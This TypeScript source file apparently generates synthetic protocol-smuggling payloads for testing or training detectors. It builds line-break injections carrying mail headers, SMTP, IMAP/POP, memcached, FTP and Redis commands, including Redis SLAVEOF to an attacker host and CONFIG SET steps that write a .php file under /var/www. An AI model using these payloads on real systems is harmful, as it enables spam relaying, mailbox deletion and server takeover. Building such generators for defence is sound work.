/** Line breaks that reach another protocol behind the application: mail, IMAP, POP3, memcached, FTP and Redis. */
import type { Family } from '../../family.ts';
import { characters, integer, LOWER_CASE, maybe, oneOf, type Rule, repeat, text, weighted } from '../../grammar.ts';
import { attackerHost, fieldName, personName, prose, token } from '../lexicon.ts';
import { ARGUMENTS, familyOf } from '../places.ts';
import { amongPairs, pagePath } from '../surroundings.ts';
import { lineBreak } from './line-break.ts';

const address: Rule = oneOf(
  text`${personName}@${oneOf('example.com', 'mail.com', 'test.org', 'target.com', 'localhost')}`,
  text`${characters(LOWER_CASE, 3, 8)}@${attackerHost}`,
);
const space: Rule = weighted([4, ' '], [2, '%20'], [1, '+']);

/** Lines with one kind of break between and around them. */
const lines =
  (...parts: readonly Rule[]): Rule =>
  (random) => {
    const end = lineBreak(random);
    return `${end}${parts.map((part) => part(random)).join(end)}${random() < 0.4 ? end : ''}`;
  };

const copyTo: Rule = text`${oneOf('Bcc', 'bcc', 'Cc', 'cc', 'BCC', 'CC')}:${maybe(space)}${repeat(address, 1, 3, ',')}`;
const mailHeader: Rule = oneOf(
  text`${oneOf('Bcc', 'bcc', 'Cc', 'cc', 'BCC', 'To', 'Reply-To', 'From')}:${maybe(space)}${repeat(address, 1, 3, ',')}`,
  text`Subject:${maybe(space)}${prose}`,
  text`MIME-Version:${maybe(space)}1.0`,
  text`Content-Type:${maybe(space)}${oneOf('text/html', 'multipart/mixed; boundary=x', 'text/plain')}`,
);
const mailLines: Rule = oneOf(
  lines(copyTo),
  lines(copyTo, mailHeader),
  lines(mailHeader, copyTo),
  lines(copyTo, mailHeader, text``, prose),
  lines(
    text`Content-Type: multipart/mixed; boundary="${token}"`,
    text``,
    text`--${token}`,
    text`Content-Type: text/html`,
    text``,
    prose,
  ),
);
const mail: Rule = text`${oneOf(address, prose, personName)}${mailLines}`;

const smtpLine: Rule = oneOf(
  text`MAIL FROM:${maybe(space)}<${address}>`,
  text`RCPT TO:${maybe(space)}<${address}>`,
  text`rcpt to:${maybe(space)}${address}`,
  text`DATA`,
  text`EHLO ${attackerHost}`,
  text`HELO ${attackerHost}`,
  text`VRFY ${personName}`,
  text`EXPN ${personName}`,
  text`RSET`,
  text`QUIT`,
  text`.`,
);
const smtp: Rule = text`${oneOf(address, personName, prose, '')}${oneOf(
  lines(text`.`, smtpLine, smtpLine),
  lines(smtpLine, smtpLine),
  lines(text`DATA`, text`Subject: ${prose}`, prose, text`.`),
  lines(text`.`, text`MAIL FROM:<${address}>`, text`RCPT TO:<${address}>`, text`DATA`, prose, text`.`),
)}`;

const tag: Rule = oneOf(
  text`A${integer(1, 999)}`,
  text`V${integer(100, 999)}`,
  text`a${integer(1, 99)}`,
  '*',
  text`${characters(LOWER_CASE, 1)}001`,
);
const imapLine: Rule = oneOf(
  text`${tag} CAPABILITY`,
  text`${tag} LOGIN ${personName} ${token}`,
  text`${tag} FETCH ${integer(1, 99)} BODY[${oneOf('HEADER', 'TEXT', '')}]`,
  text`${tag} SELECT ${oneOf('INBOX', '"INBOX"', 'Sent')}`,
  text`${tag} LIST "" "*"`,
  text`${tag} DELETE INBOX`,
  text`${tag} RENAME INBOX ${token}`,
  text`${tag} LOGOUT`,
  text`${tag} CREATE ${token}`,
  text`${tag} STATUS INBOX (MESSAGES)`,
);
const popLine: Rule = oneOf(
  text`USER ${personName}`,
  text`PASS ${token}`,
  text`DELE ${integer(1, 9)}`,
  text`RETR ${integer(1, 9)}`,
  text`TOP ${integer(1, 9)} ${integer(0, 9)}`,
  text`LIST`,
  text`UIDL`,
);
const mailbox: Rule = text`${oneOf('INBOX', '"', integer(1, 9999), 'INBOX"', personName, 'BODY[HEADER]')}${oneOf(lines(imapLine), lines(imapLine, imapLine), lines(popLine, popLine))}`;

const cacheLine: Rule = oneOf(
  text`set ${token} 0 ${integer(0, 3600)} ${integer(1, 30)}`,
  text`add ${token} 0 ${integer(0, 3600)} ${integer(1, 30)}`,
  text`get ${token}`,
  text`flush_all`,
  text`stats ${oneOf('', 'items', 'cachedump 1 100', 'slabs')}`,
  text`delete ${token}`,
  text`version`,
  text`verbosity 1`,
);
const cache: Rule = text`${oneOf('key', token, 'user', '1', '')}${maybe(text` 0 ${integer(0, 60)} 1`, 0.3)}${oneOf(lines(cacheLine, token, cacheLine), lines(cacheLine, cacheLine), lines(text`set ${token} 0 ${integer(0, 900)} ${integer(1, 9)}`, token as Rule))}`;

const ftp: Rule = text`${oneOf(personName, '/', token)}${oneOf(
  lines(
    text`PORT ${integer(1, 254)},${integer(1, 254)},${integer(0, 254)},${integer(1, 254)},${integer(1, 254)},${integer(1, 254)}`,
    text`RETR ${token}`,
  ),
  lines(text`USER ${personName}`, text`PASS ${token}`),
  lines(text`CWD /${token}`, text`STOR ${token}.php`),
  lines(text`DELE ${token}`),
)}`;
const redis: Rule = text`${oneOf('http://127.0.0.1:6379/', 'x', token)}${lines(
  oneOf(
    text`SLAVEOF ${attackerHost} ${integer(1024, 9999)}`,
    text`CONFIG SET dir /var/www`,
    text`SET ${token} ${token}`,
    text`FLUSHALL`,
  ),
  oneOf(text`SAVE`, text`QUIT`, text`CONFIG SET dbfilename ${token}.php`),
)}`;

const inRequest = (part: Rule): Rule =>
  weighted(
    [8, part],
    [3, amongPairs(text`${oneOf(fieldName, 'email', 'to', 'mailbox', 'key', 'subject')}=${part}`)],
    [1, text`${pagePath}?${fieldName}=${part}`],
  );

/** Commands for other protocols behind a line break. */
export const OTHER_PROTOCOL_FAMILIES: readonly Family[] = [
  familyOf('protocol', 'mail-headers', inRequest(mail), ARGUMENTS),
  familyOf('protocol', 'smtp-commands', inRequest(smtp), ARGUMENTS, 0.7),
  familyOf('protocol', 'imap-and-pop', inRequest(mailbox), ARGUMENTS, 0.7),
  familyOf(
    'protocol',
    'cache-and-file-commands',
    inRequest(weighted([4, cache], [1, ftp], [1, redis])),
    ARGUMENTS,
    0.6,
  ),
];
